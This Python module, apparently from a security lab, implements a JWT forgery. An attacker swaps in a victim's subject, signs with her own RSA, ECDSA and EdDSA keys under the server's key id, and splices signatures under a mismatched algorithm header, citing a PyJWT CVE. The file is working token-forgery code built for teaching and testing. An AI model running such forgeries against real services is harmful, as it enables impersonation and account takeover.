"""What if the signature is good, by another algorithm or on another curve than the key's?"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from lab.attacks.forged.forging import Forgery, encoded, parts_of
from lab.attacks.person import Person
from lab.attacks.scene import Scene


def keys() -> dict[str, Any]:
    """A key of the attacker's for each algorithm."""
    own_rsa = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return {
        "RS256": own_rsa,
        "PS256": own_rsa,
        "ES256": ec.generate_private_key(ec.SECP256R1()),
        "ES384": ec.generate_private_key(ec.SECP384R1()),
        "EdDSA": ed25519.Ed25519PrivateKey.generate(),
    }


class MixAlgorithms(Forgery):
    """Lists of allowed algorithms were got around so: CVE-2026-48523 (PyJWT before 2.13)."""

    key = "mix-algorithms"
    title = "Sign by another algorithm, under the server's key name"
    catalogue = ("A13", "A15")
    story = (
        "Mallory names the server's key and signs with keys of hers, of every kind; then she keeps "
        "the server's algorithm in the header, and the signature is another one's."
    )
    gained = "A signature of another kind passed for one of the server's key."
    learned = "Key and algorithm belong together: the ring says which one, and never the header."

    def forged(self, scene: Scene, mallory: Person, victim: str) -> Iterable[tuple[str, str]]:
        header, claims, _ = parts_of(mallory.access_token or "")
        claims |= {"sub": victim}
        for algorithm, key in keys().items():
            fields = {"typ": header["typ"], "kid": header["kid"]}
            text = jwt.encode(claims, key, algorithm, headers=fields)
            yield f"Signed with {algorithm} and a key of hers.", text
            signature = text.rpartition(".")[2]
            yield (
                f"The header says {header['alg']}; the signature is one of {algorithm}.",
                f"{encoded(header)}.{encoded(claims)}.{signature}",
            )
